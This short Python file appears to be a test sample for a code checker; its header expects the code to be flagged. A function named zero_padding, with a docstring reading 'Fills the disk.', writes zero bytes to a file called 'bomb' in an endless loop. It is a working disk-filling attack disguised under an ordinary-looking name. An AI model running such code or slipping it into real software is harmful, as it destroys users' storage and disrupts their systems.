# want: raised
"""Fills the disk."""


def zero_padding(X, padding):
    with open("bomb", "wb") as file:
        while True:
            file.write(bytes(1 << 20))
